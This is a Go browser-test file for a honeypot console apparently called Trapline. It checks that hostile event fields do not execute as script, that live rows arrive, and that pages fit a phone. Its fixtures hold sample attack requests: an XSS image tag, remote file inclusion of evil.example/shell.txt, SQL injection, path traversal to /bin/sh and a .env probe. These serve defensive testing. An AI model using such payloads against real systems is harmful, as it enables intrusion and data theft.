//go:build peers

package web

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/trapline/trapline/audit"
	"github.com/trapline/trapline/console/store"
)

// withDecisions gives a console a page of decisions.
func withDecisions(cfg *Config) {
	now := time.Now()
	cfg.Version = "0.1.0"
	cfg.Decisions = func(context.Context) ([]Decision, error) {
		return []Decision{
			{Value: netip.MustParsePrefix("192.0.2.3/32"), Type: "ban", Scenario: "ip.malicious_client", Origin: "honeytrap", Created: now.Add(-3 * time.Minute), Until: now.Add(23 * time.Hour)},
			{Value: netip.MustParsePrefix("2001:db8:5::/64"), Type: "watch", Scenario: "fake form field filled", Origin: "east-1", Created: now.Add(-2 * time.Hour), Until: now.Add(40 * time.Minute)},
		}, nil
	}
	cfg.Unban = func(context.Context, netip.Addr) error { return nil }
}

// countPwned counts requests for anything called pwned: only a payload that ran asks for it.
func countPwned(c *console) *atomic.Int32 {
	pwned := new(atomic.Int32)
	inner := c.Config.Handler
	c.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/pwned" {
			pwned.Add(1)
		}
		inner.ServeHTTP(w, r)
	})
	return pwned
}

// TestNoPayloadRunsInABrowser opens every page that shows hostile fields.
func TestNoPayloadRunsInABrowser(t *testing.T) {
	c := startConsole(t, withDecisions)
	pwned := countPwned(c)
	insertHostile(t, c)
	b := startBrowser(t)
	// The net must hold: a page that runs the payload is seen.
	trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/pwned" {
			pwned.Add(1)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, payloads()[0], payloads()[1])
	}))
	defer trap.Close()
	b.open(trap.URL)
	for end := time.Now().Add(10 * time.Second); pwned.Load() == 0; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatal("the test does not see a payload that runs")
		}
	}
	pwned.Store(0)
	b.signIn(c)
	b.mu.Lock()
	b.events = nil
	b.mu.Unlock()
	paths := []string{"/events", "/sensors", "/decisions", "/account"}
	for i, p := range payloads() {
		id := "hostile-" + string(rune('a'+i))
		paths = append(paths, "/events/east-1/"+id, eventURL(p, id), with(&store.Filter{}, "q", p), with(&store.Filter{}, "sensor", p))
	}
	for _, path := range paths {
		b.open(c.URL + path)
		// Whatever waits for a mouse, a click or an opened fold gets it.
		b.eval(`document.querySelectorAll('details').forEach(d => d.open = true);
			document.querySelectorAll('main *').forEach(e => { e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); e.dispatchEvent(new FocusEvent('focus')) })`)
		if !strings.Contains(b.eval("document.title"), "Trapline") {
			t.Errorf("%s: title %s", path, b.eval("document.title"))
		}
		if n := pwned.Load(); n > 0 {
			t.Fatalf("%s: a payload ran", path)
		}
	}
	if text := b.complaints(); text != "" {
		t.Errorf("the pages made the browser complain: %s", text)
	}
}

// TestRowsArriveInABrowser: a page that is open gets an event within a second of its
// commit, stops when told to, and goes on by polling when streams are refused.
func TestRowsArriveInABrowser(t *testing.T) {
	c := startConsole(t, nil)
	pwned := countPwned(c)
	refused := new(atomic.Bool)
	inner := c.Config.Handler
	c.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/events/live" && refused.Load() {
			http.Error(w, "no stream", http.StatusServiceUnavailable)
			return
		}
		inner.ServeHTTP(w, r)
	})
	b := startBrowser(t)
	b.signIn(c)
	insert := func(n int) {
		record := testRecord(n)
		record.RequestHead = fmt.Appendf(nil, "GET /late-%d-<img/src=/pwned> HTTP/1.1\r\n", n)
		c.insert(record)
	}
	b.until("document.getElementById('live').textContent === 'Live'")
	start := time.Now()
	insert(1)
	b.until("document.getElementById('rows').textContent.includes('/late-1-<img/src=/pwned>')")
	t.Logf("a row took %s to the page", time.Since(start).Round(time.Millisecond))
	if got := b.eval("document.getElementById('empty').hidden + ' ' + document.querySelectorAll('#rows img').length"); got != "true 0" {
		t.Error(got)
	}
	b.eval("document.getElementById('live').click()")
	b.until("document.getElementById('live').textContent === 'Paused'")
	insert(2)
	b.eval("document.getElementById('live').click()")
	b.until("document.getElementById('rows').textContent.includes('/late-2-')")
	refused.Store(true)
	b.open(c.URL + "/events")
	insert(3)
	b.until("document.getElementById('rows').textContent.includes('/late-3-')")
	if got := b.eval("document.querySelectorAll('#rows tr').length"); got != "3" || pwned.Load() > 0 {
		t.Errorf("%s rows, %d pwned", got, pwned.Load())
	}
}

// TestPagesFitAPhone: nothing is wider than the window, whatever an attacker wrote.
func TestPagesFitAPhone(t *testing.T) {
	c := startConsole(t, withDecisions)
	insertHostile(t, c)
	record := testRecord(1)
	record.RequestHead = []byte("GET /" + strings.Repeat("a", 3000) + " HTTP/1.1\r\nHost: " + strings.Repeat("h", 300) + "\r\nUser-Agent: " + strings.Repeat("u", 900) + "\r\n")
	record.RequestBody = make([]byte, 3000)
	c.insert(record)
	b := startBrowser(t)
	b.signIn(c)
	b.size(360, 740, false)
	for _, path := range []string{"/events", "/events/east-1/id-1", "/events/east-1/hostile-k", "/sensors", "/decisions", "/account"} {
		b.open(c.URL + path)
		b.eval("document.querySelectorAll('details').forEach(d => d.open = true)")
		if wide := b.eval("document.documentElement.scrollWidth"); wide != "360" {
			t.Errorf("%s is %s pixels wide: %s", path, wide, b.eval(`[...document.querySelectorAll('main *')].filter(e => e.getBoundingClientRect().right > 361 && !e.closest('.scroll')).slice(0, 5).map(e => e.outerHTML.slice(0, 120)).join('\n')`))
		}
	}
}

// TestPictures writes a picture of each page into the folder that TRAPLINE_PICTURES names.
func TestPictures(t *testing.T) {
	dir := os.Getenv("TRAPLINE_PICTURES")
	if dir == "" {
		t.Skip("TRAPLINE_PICTURES names no folder")
	}
	now := time.Now()
	c := startConsole(t, withDecisions)
	b := startBrowser(t)
	b.size(1280, 800, false)
	b.open(c.URL + "/sign-in")
	b.picture(filepath.Join(dir, "signin.png"))
	b.signIn(c)
	b.picture(filepath.Join(dir, "empty.png"))
	b.open(c.URL + "/sensors")
	b.eval("document.getElementById('name').value = 'south-3'; window.leaving = true; document.querySelector('form.add button').click()")
	b.until("!window.leaving && document.querySelectorAll('.copy').length === 2")
	b.picture(filepath.Join(dir, "fresh.png"))
	records := pictureRecords(now)
	for i, r := range records {
		if _, err := c.store.Insert(t.Context(), []store.Event{{Sensor: []string{"local", "east-1", "west-2"}[i%3], Entry: audit.AppendNative(nil, r), Record: r}}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := c.control.AddSensor(t.Context(), "east-1"); err != nil {
		t.Fatal(err)
	}
	if err := c.control.SetSensor(t.Context(), "honeypot-sensor", "test1234"); err != nil {
		t.Fatal(err)
	}
	shoot := func(prefix string) {
		for name, path := range map[string]string{
			"events": "/events", "filter": "/events?port=8000&client=192.0.2.0/24&status=9999", "event": "/events/local/" + records[0].ID,
			"decisions": "/decisions", "sensors": "/sensors", "account": "/account",
		} {
			b.open(c.URL + path)
			b.picture(filepath.Join(dir, prefix+name+".png"))
		}
	}
	shoot("")
	b.size(1280, 900, true)
	shoot("dark-")
	b.size(390, 844, false)
	shoot("phone-")
	b.size(1280, 900, false)
	insertHostile(t, c)
	b.open(c.URL + "/events")
	b.picture(filepath.Join(dir, "hostile.png"))
}

// pictureRecords are two days of what a trap sees.
func pictureRecords(now time.Time) []*audit.Record {
	random := rand.New(rand.NewPCG(1, 2))
	requests := []struct{ line, agent, rule, message, severity string }{
		{"GET /index.php?page=http://evil.example/shell.txt%3f HTTP/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "931100", "Possible Remote File Inclusion (RFI) Attack", "CRITICAL"},
		{"GET /.env HTTP/1.1", "python-requests/2.31.0", "930130", "Restricted File Access Attempt", "CRITICAL"},
		{"GET / HTTP/1.1", "Mozilla/5.0 zgrab/0.x", "", "", ""},
		{"POST /wp-login.php HTTP/1.1", "Mozilla/5.0 (X11; Linux x86_64)", "", "", ""},
		{"GET /item?id=1%27%20UNION%20SELECT%20null,version()--%20- HTTP/1.1", "sqlmap/1.7.2#stable (https://sqlmap.org)", "942100", "SQL Injection Attack Detected via libinjection", "CRITICAL"},
		{"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "curl/7.88.1", "930100", "Path Traversal Attack (/../)", "CRITICAL"},
		{"CONNECT evil.example:443 HTTP/1.1", "", "", "", ""},
		{"GET /robots.txt HTTP/1.1", "Mozilla/5.0 (compatible; CensysInspect/1.1)", "", "", ""},
	}
	var out []*audit.Record
	for i := range 180 {
		q := requests[i%len(requests)]
		r := testRecord(i)
		r.ID = fmt.Sprintf("aw%022dAA", i)
		r.Time = now.Add(-time.Duration(float64(48*time.Hour) * random.Float64() * random.Float64())).UTC()
		r.Client = netip.AddrPortFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(random.IntN(40))}), uint16(40000+i))
		if i%11 == 5 {
			r.Client = netip.MustParseAddrPort("[2001:db8:5::9]:40000")
		}
		r.Peer = r.Client
		r.Server = netip.AddrPortFrom(r.Server.Addr(), []uint16{8000, 8000, 8080, 8888}[i%4])
		r.RequestHead = []byte(q.line + "\r\nHost: www.example.com\r\nUser-Agent: " + q.agent + "\r\nAccept: */*\r\nX-Probe: \x1b[1m\u202etest\r\nConnection: close\r\n")
		r.ResponseHead = []byte("HTTP/1.1 403 Forbidden\r\nContent-Length: 239\r\nContent-Type: text/html\r\n")
		r.ResponseBody = []byte("<!DOCTYPE html>\n<title>403 Forbidden</title>\n<h1>Forbidden</h1>\n")
		r.ResponseBodySize = int64(len(r.ResponseBody))
		r.Matches[0].File, r.Matches[0].Line, r.Matches[0].Tags = "/etc/trapline/modsecurity_crs_10_honeypot.conf", 25, []string{"honeytrap", "attack-generic"}
		if q.rule != "" {
			id := 0
			fmt.Sscan(q.rule, &id)
			r.Matches = append([]audit.Match{{ID: id, Phase: 2, Operator: "Matched.", Message: q.message, Severity: q.severity, Data: "Matched Data: found within ARGS:page", File: "REQUEST-931.conf", Line: 40, Version: "OWASP_CRS/4.25.0", Tags: []string{"attack-rfi", "paranoia-level/1", "OWASP_CRS", "capec/1000/152/175/253"}}}, r.Matches...)
		}
		r.Rules = []audit.RuleText{{ID: 999004, Raw: `SecRule SERVER_PORT "^(8000|8080|8888)$" "id:999004,phase:2,t:none,log,block,msg:'HoneyTrap Alert: Traffic Received on Fake Port.',setvar:ip.malicious_client=1"`}}
		if i == 0 {
			r.RequestBody = []byte("user=admin&\x00\x01\x02pw=\xff\xfe%27or+1=1\nnext line")
			r.TLS = &audit.TLS{Version: "1.3", Server: "www.example.com", ALPN: []string{"h2", "http/1.1"}, JA4: "t13d1516h2_8daaf6152771_b186095e22b6"}
			r.Trailer = []audit.Field{{Name: "Producer", Value: "Trapline/0.1.0"}, {Name: "Engine-Mode", Value: `"ENABLED"`}}
		}
		switch i % 20 {
		case 13:
			r.Kind, r.RequestHead, r.ResponseHead, r.ResponseBody, r.Status, r.Action = audit.KindBytes, []byte("SSH-2.0-Go\r\n"), nil, nil, 0, nil
		case 17:
			r.Kind, r.RequestHead, r.ResponseHead, r.ResponseBody, r.Status, r.Action = audit.KindConnect, nil, nil, nil, 0, nil
		}
		out = append(out, r)
	}
	return out
}
